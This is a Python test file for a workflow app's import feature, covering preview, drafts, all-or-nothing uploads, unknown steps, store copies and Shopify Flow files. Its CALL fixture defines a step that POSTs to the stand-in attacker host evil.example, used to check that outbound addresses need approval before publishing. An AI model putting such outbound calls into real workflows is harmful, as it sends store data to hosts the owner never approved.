"""Files come in by the page: looked at first, kept as drafts, addresses approved; and go to another store."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from sqlalchemy import Connection

from app.core import flow
from app.store import connections, workflows
from tests.api.conftest import document
from tests.ui.conftest import House, where
from tests.web.asking import Browser, Reply

CALL = {"id": "call", "type": "http.request", "settings": {"method": "POST", "url": "https://evil.example/x"}}


def calling(**more: Any) -> dict[str, Any]:
    """A workflow that calls a web address."""
    start = {"id": "start", "type": "order.created", "settings": {}}
    return (
        document(id="calls", name="Calls", steps=[start, CALL], edges=[{"source": "start", "target": "call"}])
        | more
    )


async def sent(browser: Browser, *files: tuple[str, bytes]) -> Reply:
    """Posts files by the form of the page."""
    await browser.get("/import")
    parts = [f'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{browser.csrf}\r\n'.encode()]
    for name, body in files:
        head = f'--b\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'
        parts.append(head.encode() + body + b"\r\n")
    return await browser.ask(
        "POST",
        "/import",
        b"".join([*parts, b"--b--\r\n"]),
        {"content-type": "multipart/form-data; boundary=b"},
    )


def packed(reply: Reply) -> str:
    """What the page carries along."""
    found = re.search(r'name="documents" value="([^"]+)"', reply.text)
    assert found, reply.text[:2000]
    return found[1]


async def test_a_file_is_looked_at_kept_and_approved_before_it_is_published(
    house: House, owner: Browser
) -> None:
    seen = await sent(owner, ("calls.json", json.dumps(calling()).encode()))
    assert "https://evil.example/x" in seen.text
    assert (await owner.get("/workflows/calls")).status == 404, "nothing is kept by looking"
    kept = await owner.post("/import/keep", {"documents": packed(seen)})
    assert where(kept).startswith("/workflows/calls")
    refused = await owner.post("/workflows/calls/publish")
    assert refused.status == 422
    assert "https://evil.example/x" in refused.text
    look = await owner.get("/workflows/calls/look")
    assert "https://evil.example/x" in look.text
    await owner.post("/workflows/calls/look", {"right": "0:https://other.example"})
    assert (await owner.post("/workflows/calls/publish")).status == 422
    await owner.post("/workflows/calls/look", {"right": "0:https://evil.example/x"})
    assert (await owner.post("/workflows/calls/publish")).status == 303
    again = await sent(owner, ("calls.json", json.dumps(calling(name="Calls again")).encode()))
    assert "It is called “Calls again”, not “Calls”." in again.text
    await owner.post("/import/keep", {"documents": packed(again), "do:calls": "new"})
    named = [one.name for one in await house.services.db.read(workflows.list_all)]
    assert {"Calls", "Calls again"} <= {*named}
    await owner.post("/import/keep", {"documents": packed(again), "do:calls": "update"})
    assert (await owner.post("/workflows/calls/publish")).status == 303, "what was approved stays so"


async def test_all_of_the_files_or_none(house: House, owner: Browser) -> None:
    good = json.dumps(calling()).encode()
    for bad in (b"{", b"PK\x03\x04nonsense", good, b"\xff\xfe{}", b'{"name": NaN}'):
        reply = await sent(owner, ("a.json", good), ("b.json", bad))
        assert reply.status in (400, 422)
        assert "Nothing was kept." in reply.text
    assert (await owner.get("/workflows/calls")).status == 404
    assert (await owner.post("/import/keep", {"documents": "!"})).status == 400


async def test_unknown_steps_are_kept_shown_and_written_again(house: House, owner: Browser) -> None:
    strange = {"id": "later", "type": "plugin.of_tomorrow", "settings": {"b": [1, {"deep": None}], "a": "x"}}
    start = {"id": "start", "type": "order.created", "settings": {}}
    drawn = document(id="new", steps=[start, strange], edges=[{"source": "start", "target": "later"}])
    seen = await sent(owner, ("new.json", json.dumps(drawn).encode()))
    assert "plugin.of_tomorrow" in seen.text
    await owner.post("/import/keep", {"documents": packed(seen)})
    assert "plugin.of_tomorrow" in (await owner.get("/workflows/new")).text
    assert (await owner.post("/workflows/new/publish")).status == 422
    out = (await owner.get("/export?id=new")).json()
    assert out["steps"][1] == strange
    whole = zipfile.ZipFile(io.BytesIO((await owner.get("/export")).body))
    assert len(whole.namelist()) == len(await house.services.db.read(workflows.list_all))


async def test_a_copy_for_another_store_asks_for_what_is_the_first_ones_own(
    house: House, owner: Browser
) -> None:
    def other(conn: Connection) -> str:
        return connections.create(
            conn, kind="woocommerce", name="Second shop", settings={}, secrets=b"", now=datetime.now(UTC)
        ).id

    store = await house.services.db.write(other)
    start = {"id": "start", "type": "order.created", "settings": {}}
    tag = {"id": "tag", "type": "order.add_tags", "settings": {"tags": ["vip"]}}
    slots = {"shop": {"kind": ["shopify", "demo"]}}
    drawn = document(
        id="tags", name="Tags", slots=slots, steps=[start, tag], edges=[{"source": "start", "target": "tag"}]
    )
    await owner.post(
        "/import/keep", {"documents": packed(await sent(owner, ("t.json", json.dumps(drawn).encode())))}
    )
    place = where(await owner.post("/workflows/tags/copy", {"store": store}))
    look = await owner.get(place)
    assert "vip" in look.text
    made = place.split("/")[2]
    assert made != "tags"
    saved = await house.services.db.read(workflows.get, made)
    assert (saved.bindings["shop"], saved.state) == (store, "draft")
    assert (await owner.post(f"/workflows/{made}/publish")).status == 422
    await owner.post(f"/workflows/{made}/look", {"right": "0:vip"})
    assert (await owner.post(f"/workflows/{made}/publish")).status == 303


async def test_a_file_of_shopify_flow_is_told_before_it_is_kept_and_goes_out_again(owner: Browser) -> None:
    body = (Path(__file__).parents[1] / "fixtures" / "flow" / "tag-orders-above-a-sum.flow").read_bytes()
    page = await sent(owner, ("tag-orders.flow", body))
    assert "“order created” does the same here." in page.text
    kept = await owner.post("/import/keep", {"documents": packed(page)})
    ident = where(kept).split("/")[2].split("?")[0]
    out = await owner.get(f"/export?id={ident}&format=flow")
    assert flow.read(out.body).report.of("missing") == ()
    bad = await sent(owner, ("broken.flow", b"{"))
    assert bad.status == 422
    assert "it is no JSON" in bad.text
